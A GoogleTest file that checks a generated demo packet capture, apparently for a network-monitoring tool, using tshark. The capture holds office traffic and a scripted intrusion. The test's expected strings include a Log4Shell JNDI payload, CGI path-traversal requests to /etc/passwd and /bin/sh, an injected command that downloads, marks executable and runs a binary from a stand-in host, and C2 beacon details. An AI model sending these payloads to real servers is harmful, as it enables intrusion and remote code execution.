// The demo capture holds the traffic docs/demo.md promises, checked with tshark as an
// independent decoder: the office's benign protocols, the scan, the service probes, the
// exploits, the implant's download and its C2 beacons, every checksum correct, only the anomalies put in on purpose, and the same
// bytes for the same seed.
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "tests/support/test_support.h"

namespace mamori::test {
namespace {

const char* const kAttacker = "203.0.113.66";
const char* const kWebServer = "192.168.10.80";
const char* const kC2 = "198.51.100.77";

std::string generator() { return binaryDir() + "/tools/mamori-demogen"; }

std::vector<std::string> lines(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    if (!line.empty()) out.push_back(line);
  }
  return out;
}

class DemoCapture : public ::testing::Test {
 protected:
  void SetUp() override {
    if (run("command -v tshark >/dev/null 2>&1").exit_code != 0) GTEST_SKIP() << "tshark is not installed";
    pcap_ = tempDir() + "/office.pcap";
    ASSERT_EQ(run("'" + generator() + "' --out '" + pcap_ + "' >/dev/null").exit_code, 0)
        << "could not run " << generator();
  }

  // tshark's stdout for this capture; `arguments` follow `-r FILE`.
  std::string tshark(const std::string& arguments) const {
    CommandResult result = run("tshark -n -r '" + pcap_ + "' " + arguments + " 2>/dev/null");
    EXPECT_EQ(result.exit_code, 0) << "tshark " << arguments;
    return result.out;
  }

  std::vector<std::string> fields(const std::string& filter, const std::string& fieldList) const {
    return lines(tshark("-Y '" + filter + "' -T fields -E separator='|' " + fieldList));
  }

  size_t count(const std::string& filter) const { return fields(filter, "-e frame.number").size(); }

  std::string pcap_;
};

TEST_F(DemoCapture, SameSeedGivesByteIdenticalFiles) {
  const std::string dir = tempDir();
  for (const char* name : {"first", "second"}) {
    ASSERT_EQ(run("'" + generator() + "' --seed 7 --out '" + dir + "/" + name + ".pcap' >/dev/null").exit_code, 0);
  }
  ASSERT_EQ(run("'" + generator() + "' --seed 8 --out '" + dir + "/other.pcap' >/dev/null").exit_code, 0);
  const std::string first = readFile(dir + "/first.pcap");
  EXPECT_FALSE(first.empty());
  EXPECT_TRUE(first == readFile(dir + "/second.pcap"));
  EXPECT_FALSE(first == readFile(dir + "/other.pcap"));
}

TEST_F(DemoCapture, HoldsTenMinutesOfEthernetFromMondayNineOClock) {
  const std::vector<std::string> times = lines(tshark("-T fields -e frame.time_epoch"));
  ASSERT_GT(times.size(), 2000u);
  EXPECT_LT(times.size(), 5000u);
  const double first = std::stod(times.front());
  const double last = std::stod(times.back());
  EXPECT_DOUBLE_EQ(first, 1772442000.0);  // 2026-03-02 09:00:00 UTC
  EXPECT_GT(last - first, 580.0);
  EXPECT_LT(last - first, 620.0);
  EXPECT_TRUE(std::is_sorted(times.begin(), times.end(),
                             [](const std::string& a, const std::string& b) { return std::stod(a) < std::stod(b); }));
  EXPECT_EQ(count("eth.type == 0x0800"), times.size());
}

TEST_F(DemoCapture, EveryChecksumIsCorrect) {
  const std::string validate =
      "-o ip.check_checksum:TRUE -o tcp.check_checksum:TRUE -o udp.check_checksum:TRUE "
      "-T fields -e frame.number ";
  const size_t total = lines(tshark("-T fields -e frame.number")).size();
  EXPECT_EQ(lines(tshark(validate + "-Y 'ip.checksum.status == 1'")).size(), total);
  EXPECT_EQ(lines(tshark(validate +
                         "-Y 'tcp.checksum.status != 1 || udp.checksum.status != 1 || icmp.checksum.status != 1'"))
                .size(),
            0u);
  EXPECT_EQ(lines(tshark(validate + "-Y 'tcp.checksum.status == 1 || udp.checksum.status == 1 || "
                                    "icmp.checksum.status == 1'"))
                .size(),
            total);
}

TEST_F(DemoCapture, HasNoMalformedPacketsAndOnlyThePlantedTcpAnomalies) {
  EXPECT_EQ(count("_ws.malformed || _ws.expert.severity == error"), 0u);
  EXPECT_EQ(count("tcp.analysis.retransmission"), 1u);
  EXPECT_EQ(count("tcp.analysis.out_of_order"), 1u);
  EXPECT_EQ(count("tcp.analysis.lost_segment"), 1u);    // the overtaking segment, seen first
  EXPECT_EQ(count("tcp.analysis.duplicate_ack"), 1u);  // the receiver's answer to it
  EXPECT_EQ(count("tcp.analysis.flags && !tcp.analysis.retransmission && !tcp.analysis.out_of_order && "
                  "!tcp.analysis.lost_segment && !tcp.analysis.duplicate_ack"),
            0u);
}

TEST_F(DemoCapture, BenignOfficeTrafficIsThere) {
  const std::vector<std::string> queries = fields("dns.flags.response == 0", "-e dns.qry.name");
  const std::set<std::string> names(queries.begin(), queries.end());
  for (const char* name : {"www.example.org", "news.example.com", "api.example.com", "intranet.office.example"}) {
    EXPECT_TRUE(names.count(name)) << name;
  }
  EXPECT_GT(count("dns.cname == \"www.example.org.cdn.example.net\" && dns.a == 198.51.100.10"), 0u);
  EXPECT_GT(count("dns.aaaa == 2001:db8:100::10"), 0u);
  EXPECT_EQ(count("dns.flags.response == 0"), count("dns.flags.response == 1"));

  const std::vector<std::string> sni = fields("tls.handshake.type == 1", "-e tls.handshake.extensions_server_name");
  EXPECT_GT(sni.size(), 20u);
  EXPECT_TRUE(std::find(sni.begin(), sni.end(), "www.example.org") != sni.end());
  EXPECT_EQ(count("tls.handshake.type == 2 && tls.handshake.extensions.supported_version == 0x0304"), sni.size());

  // Keep-alive: some connections carry a second request.
  const std::vector<std::string> streams = fields("http.request && ip.src == 192.168.10.0/24", "-e tcp.stream");
  std::multiset<std::string> perStream(streams.begin(), streams.end());
  EXPECT_TRUE(std::any_of(streams.begin(), streams.end(), [&](const std::string& s) { return perStream.count(s) == 2; }));
  // Pages to the office's browsers all have a body (the attacker's last shell run prints nothing).
  const std::string toOffice = "http.response.code == 200 && ip.dst == 192.168.10.0/24";
  EXPECT_EQ(count(toOffice + " && http.content_length > 0 && http.server"), count(toOffice));

  EXPECT_EQ(count("ntp.flags.mode == 3"), count("ntp.flags.mode == 4"));
  EXPECT_GT(count("ntp"), 0u);
  EXPECT_EQ(count("icmp.type == 8"), 4u);
  EXPECT_EQ(count("icmp.type == 0"), 4u);
}

TEST_F(DemoCapture, AttackerSynScansTheWebServer) {
  // Every probe is its own conversation; the two service probes and five exploit
  // connections come on top.
  size_t conversations = 0;
  for (const std::string& line : lines(tshark("-q -z conv,tcp -z conv,udp"))) {
    if (line.find(kAttacker) != std::string::npos && line.find(kWebServer) != std::string::npos) ++conversations;
  }
  EXPECT_EQ(conversations, 200u + 2u + 5u);

  const std::string fromTarget = std::string("ip.src == ") + kWebServer + " && ip.dst == " + kAttacker;
  EXPECT_EQ(count(fromTarget + " && tcp.flags.reset == 1 && tcp.flags.ack == 1"), 197u);
  const std::vector<std::string> open = fields(fromTarget + " && tcp.flags.syn == 1 && tcp.flags.ack == 1 && "
                                                            "tcp.window_size_value == 64240",
                                               "-e tcp.srcport");
  EXPECT_EQ(std::set<std::string>(open.begin(), open.end()), (std::set<std::string>{"22", "80", "443"}));
  EXPECT_EQ(count(std::string("ip.src == ") + kAttacker + " && tcp.flags.reset == 1 && tcp.flags.ack == 0"), 3u);
}

TEST_F(DemoCapture, AttackerProbesTheWebServiceThenExploitsIt) {
  const std::vector<std::string> requests =
      fields(std::string("http.request && ip.src == ") + kAttacker,
             "-e http.request.method -e http.request.uri -e http.user_agent -e http.file_data");
  const std::string nse = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
  const std::string shell = "POST|/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh|curl/7.81.0|";
  ASSERT_EQ(requests.size(), 7u);
  EXPECT_EQ(requests[0], "GET|/|" + nse + "|");
  EXPECT_EQ(requests[1], "GET|/robots.txt|" + nse + "|");
  EXPECT_EQ(requests[2], "GET|/|${jndi:ldap://203.0.113.66:1389/a}|");
  EXPECT_EQ(requests[3], "GET|/api/status|curl/7.81.0|");
  EXPECT_EQ(requests[4], "GET|/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd|curl/7.81.0|");
  EXPECT_EQ(requests[5], shell + "echo;id");
  EXPECT_EQ(requests[6], shell + "echo;curl -s -o /tmp/.u http://198.51.100.77/u;chmod +x /tmp/.u;/tmp/.u");
  const std::vector<std::string> answers =
      fields(std::string("http.response && ip.src == ") + kWebServer + " && ip.dst == " + kAttacker,
             "-e http.response.code");
  EXPECT_EQ(answers, (std::vector<std::string>{"200", "404", "200", "404", "403", "200", "200"}));
  EXPECT_EQ(count("http.file_data contains \"uid=1(daemon)\""), 1u);  // the shell ran

  // One Log4Shell string lies in a single segment, the other only in the reassembled request.
  EXPECT_EQ(count("frame contains \"\\x24{jndi:\""), 1u);
  EXPECT_EQ(count("http.request.line contains \"\\x24{jndi:\" || http.user_agent contains \"\\x24{jndi:\""), 2u);
  EXPECT_EQ(count("http.request.uri == \"/api/status\" && tcp.reassembled.length"), 1u);
}

TEST_F(DemoCapture, ExploitedWebServerFetchesAnImplantThenBeaconsEveryMinute) {
  const std::vector<std::string> download =
      fields(std::string("http.request && ip.src == ") + kWebServer + " && ip.dst == " + kC2,
             "-e tcp.dstport -e http.request.uri -e http.user_agent");
  ASSERT_FALSE(download.empty());
  EXPECT_EQ(download[0], "80|/u|curl/7.81.0");
  EXPECT_EQ(count("http.content_type == \"application/octet-stream\" && http.file_data[0:4] == 7f:45:4c:46"), 1u);

  const std::vector<std::string> lookups =
      fields("dns.qry.name == \"update.bad-c2.example\"", "-e frame.time_epoch -e ip.src -e dns.a");
  ASSERT_EQ(lookups.size(), 2u);  // the query and its answer
  EXPECT_NE(lookups[0].find(kWebServer), std::string::npos);
  EXPECT_NE(lookups[1].find(kC2), std::string::npos);

  const std::vector<std::string> beacons =
      fields("http.request.uri == \"/gate.php\"",
             "-e frame.time_epoch -e ip.src -e ip.dst -e tcp.dstport -e http.request.method -e http.user_agent");
  ASSERT_EQ(beacons.size(), 8u);
  EXPECT_LT(std::stod(lookups[1]), std::stod(beacons[0]));
  for (size_t i = 0; i < beacons.size(); ++i) {
    EXPECT_NE(beacons[i].find(std::string("|") + kWebServer + "|" + kC2 + "|8080|POST|"
                              "Mozilla/4.0 (compatible; MSIE 6.0; mamori-demo-beacon)"),
              std::string::npos)
        << beacons[i];
    if (i > 0) {
      const double interval = std::stod(beacons[i]) - std::stod(beacons[i - 1]);
      EXPECT_GE(interval, 58.0);
      EXPECT_LE(interval, 62.0);
    }
  }
  // The download and the eight beacons.
  EXPECT_EQ(count(std::string("tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.dst == ") + kC2), 9u);
}

}  // namespace
}  // namespace mamori::test
